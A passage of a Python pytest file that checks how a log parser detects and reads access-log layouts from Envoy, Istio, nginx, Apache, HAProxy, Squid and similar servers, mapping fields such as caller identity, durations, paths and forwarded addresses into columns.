    written = [("/a,b,", {"path": "/a,b", "query": None}), ("/a,?b,c", {"path": "/a", "query": "b,c"})]
    layout = "%{%d/%b/%Y:%H:%M:%S %z}t %>s %U,%q"
    check([(line.format(target), columns) for target, columns in written], log_format=layout)


@pytest.mark.parametrize("damaged", ["17730648011250001x3", "177306480112500.123"])
def test_a_point_whose_time_is_no_number_is_no_call(damaged: str) -> None:
    point = "request,api=a{0},method=GET request=1i,retry=0i,status=200i,timing=7i {1}"
    lines = [point.format(n, 1773064800125000123 + n) for n in range(20)]
    block = Block("\n".join([*lines, point.format(99, damaged.ljust(19, "0"))]).encode())
    part = parse(block, detect(block.head, Options(), "points").reader)
    assert part.calls["timestamp"].null_count() == 0 and part.calls.height == 20
    assert part.rejects["row"].to_list() == [20]


CALLED = ("application_id", "user_name")


@pytest.mark.parametrize(
    ("layout", "line"),
    [
        ("%START_TIME% %RESPONSE_CODE% {}", "2026-03-09T14:00:00.125Z 200 {}"),
        ('$time_iso8601 $status "{}"', '2026-03-09T14:00:00Z 200 "{}"'),
        ('%t %>s "{}"', '[09/Mar/2026:14:00:00 +0000] 200 "{}"'),
        ("%ci:%cp [%tr] %ST {}", "203.0.113.7:4 [09/Mar/2026:14:00:00.125] 200 {}"),
        ("%ts.%03tu %>a %>Hs {}", "1773064800.125 203.0.113.7 200 {}"),
    ],
)
@pytest.mark.parametrize(
    ("header", "column"),
    [("X-Client-Id", 0), ("X-Consumer-Username", 1), ("X-Consumer-ID", 1), ("X-Forwarded-User", 1), ("X-User-Id", 1)],
)
def test_a_header_that_says_who_called_is_the_same_column_behind_every_gateway(
    layout: str, line: str, header: str, column: int
) -> None:
    spelt = {
        "%S": f"%REQ({header.upper()})%",
        "$t": f"$http_{header.lower().replace('-', '_')}",
        "%c": f"%[req.hdr({header})]",
    }
    variable = spelt.get(layout[:2], f"%{{{header}}}>h" if "%ts" in layout else f"%{{{header}}}i")
    (call,) = read([line.format("acme")], log_format=layout.format(variable))
    assert [call.get(name) for name in CALLED] == (["acme", None], [None, "acme"])[column]
    assert "attributes" not in call


@pytest.mark.parametrize(
    ("layout", "line"),
    [
        ("%START_TIME% %DYNAMIC_METADATA(envoy.filters.http.jwt_authn:payload:{})%", "2026-03-09T14:00:00Z acme"),
        ("$time_iso8601 $jwt_claim_{}", "2026-03-09T14:00:00Z acme"),
        ("$context.requestTimeEpoch $context.requestId $context.authorizer.claims.{}", "1773064800125 r-1 acme"),
    ],
)
def test_a_claim_of_a_checked_token_is_the_same_column_behind_every_gateway(layout: str, line: str) -> None:
    for claim, column in (("client_id", 0), ("azp", 0), ("sub", 1)):
        (call,) = read([line], log_format=layout.format(claim))
        assert [call.get(name) for name in CALLED] == (["acme", None], [None, "acme"])[column]


def test_of_several_callers_the_best_is_taken_and_the_others_are_kept() -> None:
    names = (
        "%REQ(X-CLIENT-ID)%", "%REQ(X-CONSUMER-USERNAME)%", "%REQ(X-CONSUMER-ID)%", "%DOWNSTREAM_PEER_URI_SAN%",
        "%DYNAMIC_METADATA(envoy.filters.http.jwt_authn:payload:sub)%", '"%DOWNSTREAM_PEER_SUBJECT%"',
    )  # fmt: skip
    layout = f"%START_TIME% %RESPONSE_CODE% {' '.join(names)}"
    written = [
        ("app-1 bob id-7 - sub-2 -", "app-1", "bob", {"x-consumer-id": "id-7", "dynamic_metadata.envoy.filters.http.jwt_authn:payload:sub": "sub-2"}),
        ("- - - spiffe://a/ns/b - CN=a, O=b c", None, "spiffe://a/ns/b", {"downstream_peer_subject": "CN=a, O=b c"}),
        ("- - - - sub-2 -", None, "sub-2", None),
        ("- - - - - CN=a, O=b c", None, "CN=a, O=b c", None),
    ]  # fmt: skip
    lines = [
        f'2026-03-09T14:00:00.125Z 200 {" ".join(callers.split(" ", 5)[:5])} "{callers.split(" ", 5)[5]}"'
        for callers, *_ in written
    ]
    for call, (_, application, user, attributes) in zip(read(lines, log_format=layout), written, strict=True):
        assert (call.get("application_id"), call.get("user_name"), call.get("attributes")) == (
            application,
            user,
            attributes,
        )


ISTIO = FORMATS["istio_text"].example
APPENDED = {
    "istio_text": (ISTIO, "%ROUTE_NAME% %NAME%"),
    "envoy_text": (FORMATS["envoy_text"].example, '"%UPSTREAM_HOST%" %NAME%'),
    "nginx_combined": (FORMATS["nginx_combined"].example + " p", "$pipe $NAME"),
    "apache_common": (FORMATS["apache_common"].example, "%b %{NAME}i"),
    "haproxy_http": (FORMATS["haproxy_http"].example, "%{+Q}r %[NAME]"),
}


@pytest.mark.parametrize("name", APPENDED)
def test_what_is_appended_to_a_known_layout_is_part_of_no_value_and_it_is_said_what_to_type(name: str) -> None:
    line, ending = APPENDED[name]
    known = read([line])
    with pytest.raises(FormatError) as refused:
        detect(Block(f"{line} acme edge-1\n".encode()), Options(), "x.log")
    said = str(refused.value).split("\n")
    (typed,) = [
        shlex.split(text)[-1]
        for text, before in zip(said[1:], said, strict=False)
        if before.startswith(f"They are of {name} ")
    ]
    assert typed.endswith(ending)
    (call,) = read([f"{line} acme"], log_format=typed)
    attributes = dict(call.pop("attributes"))
    assert attributes.pop("NAME", None) or attributes.pop("name") == "acme"
    assert call | {"gateway": name} == {key: value for key, value in known[0].items() if key != "attributes"}
    assert attributes == dict(known[0].get("attributes", {}))


@pytest.mark.parametrize("where", ["via_upstream -", "outbound|80||shop.default.svc.cluster.local", "10.0.4.2:51000"])
def test_what_is_put_into_istio_s_layout_is_part_of_no_value(where: str) -> None:
    with pytest.raises(FormatError, match="no known format reads its first 1 records"):
        detect(Block(ISTIO.replace(where, f"{where} edge-1").encode() + b"\n"), Options(), "x.log")


def test_details_of_older_envoys_hold_blanks_in_their_braces() -> None:
    line = ISTIO.replace("via_upstream", "upstream_reset_before_response_started{connection failure}")
    (call,) = read([line])
    assert (
        dict(call["attributes"])["response_code_details"]
        == "upstream_reset_before_response_started{connection failure}"
    )
    assert (call["gateway_route"], call["duration_ms"]) == ("default", 42.0)


def test_emissary_puts_a_word_before_envoy_s_text() -> None:
    line = FORMATS["envoy_text"].example
    assert [call["duration_ms"] for call in read([f"ACCESS {line}"])] == [42.0]


@pytest.mark.parametrize(
    ("operators", "written", "columns"),
    [
        ("%ENVIRONMENT(HOSTNAME)%", "pod-1", {"node": "pod-1"}),
        ("%REQUEST_HEADER(:METHOD)% %PATH(NQ:ORIG_OR_PATH)%", "GET /v1", {"method": "GET", "path": "/v1"}),
        ("%COMMON_DURATION(DS_RX_BEG:DS_TX_END:us)%", "12500", {"duration_ms": 12.5}),
        ("%REQ(TRACEPARENT)%", f"00-{'ab' * 16}-{'cd' * 8}-01", {"trace_id": "ab" * 16, "span_id": "cd" * 8}),
        ("%REQ(X-CONSUMER?X-CLIENT-ID):20% %HOSTNAME%", "acme edge-1", {"application_id": "acme", "node": "edge-1"}),
        ("%DYNAMIC_METADATA(istio_authn:request.auth.principal)%", "iss/sub", {"user_name": "iss/sub"}),
    ],
)  # fmt: skip
def test_an_operator_of_envoy_is_its_column(operators: str, written: str, columns: dict[str, Any]) -> None:
    check(
        [(f"2026-03-09T14:00:00.125Z 200 {written}", columns)], log_format=f"%START_TIME% %RESPONSE_CODE% {operators}"
    )


# -- what other servers write in the places of combined and common ------------------------------------------------------

CLIENT = '203.0.113.7 - - [09/Mar/2026:14:00:00 +0000] "GET /v1/carts HTTP/1.1" 200 512'


def detected(lines: Sequence[str]) -> Any:
    return detect(Block("".join(f"{line}\n" for line in lines).encode()), Options(), "x")


@pytest.mark.parametrize(
    ("behind", "columns"),
    [
        (' "-" "curl/8.5" - 2.122 ms', {"duration_ms": 2.122, "upstream_duration_ms": None, "attributes": None}),  # morgan
        (' "-" "curl/8.5" 1301.265 ms', {"duration_ms": 1301.265}),
        (' "-" "curl/8.5" 0.002396', {"duration_ms": 2.396, "gateway": "apache_combined"}),  # gunicorn's %(L)s, h2o
        (" 1.300042", {"duration_ms": 1300.042, "gateway": "apache_common"}),
        # Apache Traffic Server, extended and extended2.
        (" 200 12 8 8 280 153 386 107 1", {"duration_ms": 1000.0, "referrer": None, "user_agent": None, "upstream_status_code": "200", "request_body_bytes": 8}),
        (" 200 12 0 0 210 153 316 107 0 DIRECT FIN FIN TCP_MISS", {"duration_ms": 0.0, "user_agent": None, "cache_status": "TCP_MISS"}),
        (" - Mozilla/5.0 (X11; Linux)", {"user_agent": "Mozilla/5.0 (X11; Linux)"}),
    ],
)  # fmt: skip
def test_what_sister_servers_add_is_read_in_its_unit(behind: str, columns: dict[str, Any]) -> None:
    check([(CLIENT + behind, columns)])


def test_numbers_behind_common_are_no_referrer_and_user_agent() -> None:
    with pytest.raises(FormatError, match="expected a URL"):
        detected([f"{CLIENT} 0 104"])


def test_lighttpd_s_host_is_told_also_before_a_duration() -> None:
    line = '203.0.113.7 api.example:8443 - [09/Mar/2026:14:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "c" 42113'
    check([(line, {"host": "api.example", "server_port": 8443, "duration_ms": 42.113})])


@pytest.mark.parametrize("numbers", [[0, 0, 1, 0], [3, 4, 2, 9], [0, 42, 120, 7]])
def test_whole_numbers_too_small_for_microseconds_have_no_unit(numbers: list[int]) -> None:
    lines = [f'{CLIENT} "-" "curl/8.5" {number}' for number in numbers]
    for call, number in zip(read(lines), numbers, strict=True):
        assert "duration_ms" not in call
        assert call["attributes"] == {"duration_of_unknown_unit": str(number)}
    (doubt,) = detected(lines).reader.layouts[0].doubts
    assert "too small for microseconds (%D)" in doubt and "%{ms}T" in doubt


def test_microseconds_stay_microseconds_where_a_call_or_two_took_none() -> None:
    lines = [f'{CLIENT} "-" "curl/8.5" {number}' for number in [0, *range(200, 219)]]
    assert [call["duration_ms"] for call in read(lines)][:2] == [0.0, 0.2]
    assert detected(lines).reader.layouts[0].doubts == ()


def test_two_numbers_of_which_the_first_is_no_size_of_a_request_are_not_sizes() -> None:
    with pytest.raises(FormatError, match="the layout ends before"):
        detected([f'{CLIENT} "-" "curl/8.5" {ms} {ms * 1_000}' for ms in (1, 0, 8, 42, 3)])
    call = {"request_bytes": 104, "response_bytes": 740}
    check([(f'{CLIENT} "-" "curl/8.5" 104 740', call)] * 2 + [(f'{CLIENT} "-" "-" 0 0', {"request_bytes": 0})])


def test_seconds_that_may_be_milliseconds_are_doubted() -> None:
    (doubt,) = detected([f'{CLIENT} "-" "curl/8.5" 2.122']).reader.layouts[0].doubts
    assert "morgan's :response-time" in doubt
    assert detected([f'{CLIENT} "-" "curl/8.5" 0.122']).reader.layouts[0].doubts == ()


@pytest.mark.parametrize(
    ("layout", "line", "columns"),
    [
        ("%{%s}t|%U|%q|%>s|%{User-Agent}i", "1773064800|/v1|a=b&c|200|curl 8", {"query": "a=b&c", "user_agent": "curl 8"}),
        ("%(t)s %(U)s %(q)s %(s)s", "[09/Mar/2026:14:00:00 +0000] /v1 a=b 200", {"path": "/v1", "query": "a=b"}),
        ("%(t)s %(U)s?%(q)s %(s)s", "[09/Mar/2026:14:00:00 +0000] /v1? 200", {"path": "/v1", "query": None}),
        ("%t %s %{ms}T", "[09/Mar/2026:14:00:00 +0000] 200 0.876", {"duration_ms": 0.876}),  # granian
        ("%h %t %s", "203.0.113.7:48773 [09/Mar/2026:14:00:00 +0000] 200", {"client_ip": "203.0.113.7", "client_port": 48773}),
        ("%h %t %s", "[2001:db8::7]:48773 [09/Mar/2026:14:00:00 +0000] 200", {"client_ip": "2001:db8::7", "client_port": 48773}),
        ("%h %t %s", "2001:db8::7 [09/Mar/2026:14:00:00 +0000] 200", {"client_ip": "2001:db8::7", "client_port": None}),
        ("%t %s %{duration}x %t", "[09/Mar/2026:14:00:00 +0000] 200 0.002 [09/Mar/2026:14:00:00 +0000]", {"duration_ms": 2.0}),
        ("%t %s %{ms}T %F %I %S", "[09/Mar/2026:14:00:00 +0000] 200 4 1 http-nio-8080-exec-3 -", {"duration_ms": 4.0, "request_bytes": None}),
        ('{"t":"%{%s}t","s":%s,"d":%{total-time}x,"u":"%U"}', r'{"t":"1773064800","s":200,"d":null,"u":"/v1/\u00fc"}', {"path": "/v1/ü"}),
    ],
)  # fmt: skip
def test_pasted_layouts_of_sister_servers_read_what_those_write(
    layout: str, line: str, columns: dict[str, Any]
) -> None:
    check([(line, columns)], log_format=layout)


@pytest.mark.parametrize(
    ("written", "agent"),
    [(r"back\slash", r"back\slash"), (r"a\\b\"c", r'a\b"c'), (r"\u00c3\x41", "\u00c3A"), (r"\d\+", r"\d\+")],
)
def test_a_backslash_that_escapes_nothing_stays(written: str, agent: str) -> None:
    check([(f'{CLIENT} "-" "{written}"', {"user_agent": agent, "gateway": "apache_combined"})])


@pytest.mark.parametrize("request_line", ["- http://localhost HTTP/1.0", "GET - HTTP/1.1"])
def test_a_hyphen_is_no_method_and_no_target(request_line: str) -> None:
    line = CLIENT.replace("GET /v1/carts HTTP/1.1", request_line)
    check([(line, {"method": None, "url": None, "parse_status": "malformed_request", "request_line": request_line})])


def test_a_version_may_stand_without_its_name() -> None:
    line = CLIENT.replace("HTTP/1.1", "1.1")
    check([(line, {"method": "GET", "url": "/v1/carts", "http_version": "1.1", "parse_status": "ok"})])


def test_what_squid_escapes_is_not_put_into_quotes_by_it() -> None:
    layout = '%ts.%03tu %>Hs "%ru" "%"{User-Agent}>h"'
    line = r'1773064800.125 200 "http://api.example/a\\b" "c \"d\""'
    check([(line, {"path": r"/a\b", "user_agent": 'c "d"'})], log_format=layout)


_HOSTS = ["shop.example", "shop.example:8443", "[2001:db8::1]:80", "", "-", "a b", "é.example", 'x"y', r"x\x22y"]
_TARGETS = [
    "/v1",
    "/v1?a=/b&c",
    "/",
    "//x//y",
    "/a b",
    "*",
    "",
    "-",
    "?a=1",
    "https://b.example/v1",
    "/ü?é",
    r"/\x22",
    '/"',
    "x",
]


@pytest.mark.parametrize(
    "log_format",
    [
        '[$time_local] $host$request_uri $status "$http_user_agent"',
        '[$time_local] "$scheme://$host$request_uri" $status',
        '[$time_local] "$request_method $host$request_uri $server_protocol" $status',
        "[$time_local],$host$request_uri,$status",
        "%ci:%cp [%trg] %ST %Ta %HM %HP%HQ %HV",
    ],
)
def test_two_variables_side_by_side_are_read_quickly_as_carefully(log_format: str) -> None:
    text = log_format.replace("%trg", "$time_local")
    for name, value in {"$time_local": "09/Mar/2026:14:00:00 +0000", "$status": "200", "%ST": "200", "$scheme": "https",
                        "$request_method": "GET", "%HM": "GET", "$server_protocol": "HTTP/1.1", "%HV": "HTTP/1.1", "%ci:%cp": "10.0.0.1:7",
                        "%Ta": "42", "$http_user_agent": "curl"}.items():  # fmt: skip
        text = text.replace(name, value)
    first, second = ("$host", "$request_uri") if "$host" in text else ("%HP", "%HQ")
    if first == "%HP":
        values = [(target, query) for target in _TARGETS for query in ("", "?a=1", "?", "?a=/?b")]
    else:
        values = [(host, target) for host in _HOSTS for target in _TARGETS]
    block = Block("".join(f"{text.replace(first, a).replace(second, b)}\n" for a, b in values).encode())
    (layout, *_) = FORMATS[detect(block, Options(log_format=log_format), "x").format].open(
        block.lines, Options(log_format=log_format)
    )
    assert isinstance(layout, TextLayout)
    records = block.lines.select("row", "line")
    done, left = layout._read_quickly(records)
    quickly, carefully = layout.read(records), layout._read_carefully(records)
    columns = sorted({*carefully.calls.columns, *quickly.calls.columns} - {"url"})
    rows = [
        rebuild(
            pl.concat(
                [
                    CALLS.to_frame().select("url", "path", "query", "method", "http_version", "request_line").clear(),
                    part.calls,
                ],
                how="diagonal_relaxed",
            ).lazy()
        )
        .collect()
        .with_columns(pl.lit(None).alias(name) for name in columns if name not in part.calls.columns)
        .select("url", *columns)
        .sort("row")
        .to_dicts()
        for part in (quickly, carefully)
    ]
    assert rows[0] == rows[1]
    assert layout.reads_quickly and done.height >= left.height // 4


def test_a_list_of_forwarded_addresses_stands_in_an_apache_layout_also_without_quotes() -> None:
    layout = '%{X-Forwarded-For}i %l %u %t "%r" %>s %b'
    chains = ["203.0.113.7", "203.0.113.7, 10.0.0.1", "2001:db8::1, 10.0.0.1, 10.0.0.2", "203.0.113.7,10.0.0.1", "-"]
    lines = [f'{chain} - mia [09/Mar/2026:14:00:00 +0000] "GET /v1/carts HTTP/1.1" 200 5' for chain in chains]
    found = read(lines, log_format=layout)
    assert [(one.get("forwarded_for"), one["user_name"], one["path"]) for one in found] == [
        (None if chain == "-" else chain, "mia", "/v1/carts") for chain in chains
    ]
